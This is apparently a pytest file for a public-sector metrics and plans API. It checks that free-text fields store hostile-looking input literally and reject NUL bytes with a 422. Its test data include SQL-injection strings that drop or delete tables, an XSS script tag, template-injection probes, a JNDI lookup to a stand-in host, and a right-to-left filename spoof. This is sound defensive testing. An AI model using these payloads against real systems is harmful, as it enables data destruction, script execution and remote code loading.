"""Hostile-looking text in every free-text field is data: stored and returned exactly as sent,
never interpreted. NUL, which PostgreSQL text cannot hold, is a clear 422 and never a 500."""

import pytest

from tests.metrics_api.support import local_metric
from tests.support.areas import LEEDS, WEST_YORKSHIRE
from tests.support.bodies import leader
from tests.support.clients import bearer
from tests.support.problems import assert_problem
from tests.support.submissions import json_submission, observation
from tests.targets_api.plan_support import PLAN, Plans

HOSTILE = {
    "sql": "x'; DROP TABLE area; --",
    "sql quote games": "Robert'); DELETE FROM audit_log WHERE ('1'='1",
    "html": "<script>alert('x')</script>",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "right-to-left override": "invoice\u202egnp.exe",
    "zero width": "Le\u200beds\u200d\ufeffshared",
    "percent and backslash": "100% \\N \\x00 %s %(name)s",
    "emoji and astral": "Leeds \U0001f3e5 plan",
}
NUL = "before\x00after"


def metric_with(text: str, code: str) -> dict:
    return local_metric(code, name=text, description=text, unit=text, domain=text)


@pytest.mark.parametrize("kind", HOSTILE)
async def test_metric_text_is_stored_literally(open_service, make_key, kind):
    text, code = HOSTILE[kind], "leeds-hostile"
    async with open_service("metrics_api") as client:
        headers = bearer(await make_key("steward", LEEDS))
        created = await client.post("/v1/metrics", json=metric_with(text, code), headers=headers)
        assert created.status_code == 201, created.text
        stored = (await client.get(f"/v1/metrics/{code}", headers=headers)).json()
    assert {stored[f] for f in ("name", "description", "unit", "domain")} == {text}


@pytest.mark.parametrize("kind", HOSTILE)
async def test_leader_text_is_stored_literally(open_service, make_key, kind):
    text = HOSTILE[kind]
    async with open_service("targets_api") as client:
        headers = bearer(await make_key("steward", LEEDS))
        body = leader(name=text, role=text, organisation=text)
        put = await client.put(f"/v1/places/{LEEDS}/leader", json=body, headers=headers)
        assert put.status_code == 201, put.text
        listed = (await client.get(f"/v1/places/{LEEDS}/leaders", headers=headers)).json()
    assert {listed["data"][0][f] for f in ("name", "role", "organisation")} == {text}


@pytest.mark.parametrize("kind", HOSTILE)
async def test_plan_and_approval_text_is_stored_literally(open_service, make_key, kind):
    text = HOSTILE[kind]
    async with open_service("targets_api") as client:
        plans = Plans(
            client,
            bearer(await make_key("steward", WEST_YORKSHIRE)),
            bearer(await make_key("signatory", LEEDS)),
            bearer(await make_key("signatory", WEST_YORKSHIRE)),
        )
        plan = await plans.create(title=text)
        await plans.fill(plan["id"])
        await plans.propose(plan["id"])
        decided = await client.post(
            f"/v1/plans/{plan['id']}/approvals",
            headers=plans.place_signatory,
            json={
                "organisation_code": LEEDS,
                "decision": "approve",
                "signatory": text,
                "comment": text,
            },
        )
        assert decided.status_code == 201, decided.text
        stored = await plans.get(plan["id"])
    assert stored["title"] == text
    assert [(a["signatory"], a["comment"]) for a in stored["approvals"]] == [(text, text)]


@pytest.mark.parametrize("kind", HOSTILE)
async def test_submission_note_is_stored_literally(open_service, make_key, kind):
    text = HOSTILE[kind]
    async with open_service("ingest") as client:
        headers = bearer(await make_key("submitter", LEEDS))
        sent = await client.post(
            "/v1/submissions",
            headers=headers,
            json=json_submission(observation(note=text, numerator=9, denominator=10)),
        )
        assert sent.status_code == 201, sent.text
        found = await client.get("/v1/observations", params={"place_code": LEEDS}, headers=headers)
    assert [row["note"] for row in found.json()["data"]] == [text]


@pytest.mark.parametrize("note", ["first line\rsecond", "\r=1+1", "tab\there", "a\r\nb"])
async def test_a_note_with_control_characters_is_stored_literally(open_service, make_key, note):
    """A carriage return once broke the COPY that stages a submission: a 500."""
    async with open_service("ingest") as client:
        headers = bearer(await make_key("submitter", LEEDS))
        sent = await client.post(
            "/v1/submissions",
            headers=headers,
            json=json_submission(observation(note=note, numerator=9, denominator=10)),
        )
        assert sent.status_code == 201, sent.text
        found = await client.get("/v1/observations", params={"place_code": LEEDS}, headers=headers)
    assert [row["note"] for row in found.json()["data"]] == [note]


async def nul_responses(open_service, make_key) -> dict[str, object]:
    """One attempt to store NUL in each free-text field, by field."""
    responses = {}
    async with open_service("metrics_api") as client:
        headers = bearer(await make_key("steward", LEEDS))
        for field in ("name", "description", "unit", "domain"):
            responses[f"metric {field}"] = await client.post(
                "/v1/metrics", json=local_metric("leeds-nul", **{field: NUL}), headers=headers
            )
    async with open_service("targets_api") as client:
        plans = Plans(
            client,
            bearer(await make_key("steward", WEST_YORKSHIRE)),
            bearer(await make_key("signatory", LEEDS)),
            bearer(await make_key("signatory", WEST_YORKSHIRE)),
        )
        for field in ("name", "role", "organisation"):
            responses[f"leader {field}"] = await client.put(
                f"/v1/places/{LEEDS}/leader", json=leader(**{field: NUL}), headers=plans.steward
            )
        responses["plan title"] = await client.post(
            f"/v1/places/{LEEDS}/plans", json=PLAN | {"title": NUL}, headers=plans.steward
        )
        plan = await plans.in_state("proposed")
        for field in ("signatory", "comment"):
            body = {
                "organisation_code": LEEDS,
                "decision": "approve",
                "signatory": "A. Signatory",
                field: NUL,
            }
            responses[f"approval {field}"] = await client.post(
                f"/v1/plans/{plan['id']}/approvals", json=body, headers=plans.place_signatory
            )
    async with open_service("ingest") as client:
        responses["submission note"] = await client.post(
            "/v1/submissions",
            headers=bearer(await make_key("submitter", LEEDS)),
            json=json_submission(observation(note=NUL, numerator=9, denominator=10)),
        )
    return responses


async def test_nul_in_any_text_field_is_a_422(open_service, make_key, query):
    stored_before = query(
        "SELECT (SELECT count(*) FROM metric), (SELECT count(*) FROM plan), "
        "(SELECT count(*) FROM observation)"
    )
    responses = await nul_responses(open_service, make_key)
    statuses = {field: response.status_code for field, response in responses.items()}
    assert statuses == dict.fromkeys(responses, 422)
    for response in responses.values():
        assert_problem(response, 422)
    stored_after = query(
        "SELECT (SELECT count(*) FROM metric), (SELECT count(*) FROM plan), "
        "(SELECT count(*) FROM observation)"
    )
    assert stored_after[0][1] == stored_before[0][1] + 1  # only the plan made to be decided
    assert (stored_after[0][0], stored_after[0][2]) == (stored_before[0][0], stored_before[0][2])
